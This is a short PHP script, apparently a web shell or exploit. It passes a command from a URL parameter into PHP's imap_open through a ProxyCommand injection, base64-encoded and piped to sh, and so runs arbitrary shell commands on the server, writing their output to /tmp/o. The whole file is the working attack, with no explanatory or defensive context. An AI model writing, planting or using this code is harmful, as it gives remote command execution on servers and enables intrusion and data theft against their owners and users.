<?php
$server = "x -oProxyCommand=echo\t" . base64_encode($_GET['c'] . ">/tmp/o") . "|base64\t-d|sh}";
@imap_open('{' . $server . ':143/imap}INBOX', '', '');
